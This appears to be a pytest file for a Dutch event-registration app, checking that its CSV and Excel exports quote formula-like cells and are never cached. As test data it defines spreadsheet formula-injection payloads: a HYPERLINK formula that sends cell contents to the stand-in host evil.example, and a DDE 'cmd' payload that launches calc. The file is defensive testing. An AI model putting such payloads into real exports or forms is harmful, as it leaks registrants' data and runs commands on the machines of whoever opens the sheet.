"""Spreadsheet exports cannot carry a formula (CSV/formula injection) and are never cached: what a
registrant typed reaches the organisers' Excel, and the files hold names and e-mail addresses."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests import factories, trio_helpers
from tests.conftest import end_unit_of_work, log_in
from tests.trio_helpers import trio
from wijkwerk.accounts.services import create_api_token
from wijkwerk.attendance.exports import spreadsheet_text
from wijkwerk.registrations import approval
from wijkwerk.timeutil import frozen_at
from wijkwerk.werkplaatsen import services as trios

EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"klik")'
EVIL_SUBSTITUTE = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_WIJK_NAME = "-2+3"  # also a formula to Excel
API_CSV = "/api/v1/programmes/werkplaatsen/attendance?format=csv"
BACKOFFICE = "/beheer/programmas/werkplaatsen/aanwezigheid"


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (EVIL_NAME, "'" + EVIL_NAME),
        ("+HYPERLINK(1)", "'+HYPERLINK(1)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # A phone number is quoted, and so stays as typed: unquoted, Excel reads it as the
        # formula "=31 6 1234 5678" and shows an error.
        ("+31 6 1234 5678", "'+31 6 1234 5678"),
        # A plain number stays the number it is; no formula hides in digits.
        ("-5", "-5"),
        ("-12,50", "-12,50"),
        ("Anna de Vries", "Anna de Vries"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_cell_that_could_be_a_formula_gets_a_quote_in_front(typed, written):
    assert spreadsheet_text(typed) == written


@pytest.fixture
def series(db):
    """Confirmed trios; one member's name is a formula, a substitute's name another."""
    trio_helpers.load_municipalities()
    programme = trio_helpers.werkplaats()
    body = trio("GM0606")
    body["members"][0]["name"] = EVIL_NAME
    body["members"][1]["name"] = EVIL_WIJK_NAME
    approval.approve(trios.register_trio(programme, body).registration)
    end_unit_of_work()
    return programme


@pytest.fixture
def token(db):
    value = create_api_token(factories.account("org@example.nl"))
    db.session.commit()
    return value


def mark_with_substitute(client, series, token) -> None:
    with frozen_at(series.sessions[0].starts_at):  # marked on the day
        response = _put(client, series, token)
    assert response.status_code == 200, response.json


def _put(client, series, token):
    return client.put(
        f"/api/v1/sessions/{series.sessions[0].id}/attendance",
        json={
            "records": [
                {
                    "email": "chantal@schiedam.nl",
                    "status": "present",
                    "substitute": {"name": EVIL_SUBSTITUTE, "email": "vervanger@schiedam.nl"},
                }
            ]
        },
        headers={"Authorization": f"Bearer {token}"},
    )


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))


def assert_no_formula_in(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_api_csv_quotes_formulas_and_is_not_cached(client, db, series, token):
    mark_with_substitute(client, series, token)

    response = client.get(API_CSV, headers={"Authorization": f"Bearer {token}"})

    assert response.status_code == 200
    assert response.cache_control.no_store
    rows = csv_rows(response)
    cells = [cell for row in rows for cell in row]
    assert_no_formula_in(cells)
    names = [row[0] for row in rows]
    assert "'" + EVIL_NAME in names
    assert "'" + EVIL_WIJK_NAME in names
    assert any(EVIL_SUBSTITUTE in cell for cell in cells)  # "aanwezig (vervangen door @SUM…)"
    assert rows[-1][0] == "Totaal aanwezig" and rows[-1][-1] == "1"  # counts stay numbers


def test_the_back_office_downloads_quote_formulas_write_text_cells_and_are_not_cached(
    client, db, series, token
):
    mark_with_substitute(client, series, token)
    factories.account("balie@example.nl")
    db.session.commit()
    log_in(client, "balie@example.nl", factories.PASSWORD)

    as_csv = client.get(f"{BACKOFFICE}.csv")
    assert as_csv.status_code == 200 and as_csv.cache_control.no_store
    assert as_csv.headers["Content-Type"].startswith("text/csv")
    assert_no_formula_in([cell for row in csv_rows(as_csv) for cell in row])

    as_xlsx = client.get(f"{BACKOFFICE}.xlsx")
    assert as_xlsx.status_code == 200 and as_xlsx.cache_control.no_store
    sheet = load_workbook(io.BytesIO(as_xlsx.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" and cell.number_format == "@" for cell in texts)
    assert_no_formula_in([cell.value for cell in texts])
    names = [row[0].value for row in sheet.iter_rows()]
    assert "'" + EVIL_NAME in names and "'" + EVIL_WIJK_NAME in names
    totals = [cell.value for cell in list(sheet.iter_rows())[-1]]
    assert totals[0] == "Totaal aanwezig" and totals[-1] == 1  # counts stay numbers


def test_the_registrations_export_has_a_row_per_person_with_money_and_wishes(client, db):
    from tests.course_helpers import course, individual
    from wijkwerk.driedaagse import services as individuals

    programme = course(capacity=5)
    body = individual("fatima@rotterdam.nl", dietary_needs="Vegetarisch")
    body["person"]["name"] = EVIL_NAME
    individuals.register_individual(programme, body)
    second = individual("joost@utrecht.nl", dietary_needs="vegetarisch")
    second["accessibility_needs"] = "rolstoel"
    individuals.register_individual(programme, second)
    factories.account("org@example.nl")
    end_unit_of_work()
    log_in(client, "org@example.nl", factories.PASSWORD)
    page = client.get(f"/beheer/programmas/{programme.slug}")
    assert f"/beheer/programmas/{programme.slug}/aanmeldingen.xlsx" in page.text

    csv_file = client.get(f"/beheer/programmas/{programme.slug}/aanmeldingen.csv")
    assert csv_file.headers["Cache-Control"] == "private, no-store"
    rows = csv_rows(csv_file)
    header = rows[0]
    assert header[:6] == ["Referentie", "Status", "Gemeente", "Organisatie", "Naam", "E-mailadres"]
    fatima = dict(zip(header, rows[1], strict=True))
    assert fatima["Naam"] == "'" + EVIL_NAME  # formula-safe
    assert fatima["Status"] == "Plaats bevestigd" and fatima["Organisatie"] == "Gemeente Rotterdam"
    assert fatima["Kosten incl. btw"] == "2178,00" and fatima["Betaling"] == "factuur open"
    assert fatima["Factuur"].startswith("20") and fatima["Inkoopordernummer"] == "4500123456"
    assert fatima["Dieetwensen"] == "Vegetarisch" and fatima["Rol"] == "contactpersoon"
    assert_no_formula_in([cell for row in rows for cell in row])

    xlsx = client.get(f"/beheer/programmas/{programme.slug}/aanmeldingen.xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[1][4] == "'" + EVIL_NAME and sheet.cell(2, 5).data_type == "s"

    venue = client.get(f"/beheer/programmas/{programme.slug}/locatie")
    said = venue.text
    assert "vegetarisch: 2" in said and "rolstoel" in said and EVIL_NAME not in said
    venue_csv = csv_rows(client.get(f"/beheer/programmas/{programme.slug}/locatie.csv"))
    assert venue_csv[1][:4] == ["Dag 1", "22 november 2099", "Kaap Doorn", "2"]
    assert venue_csv[1][4:] == ["vegetarisch: 2", "rolstoel"]
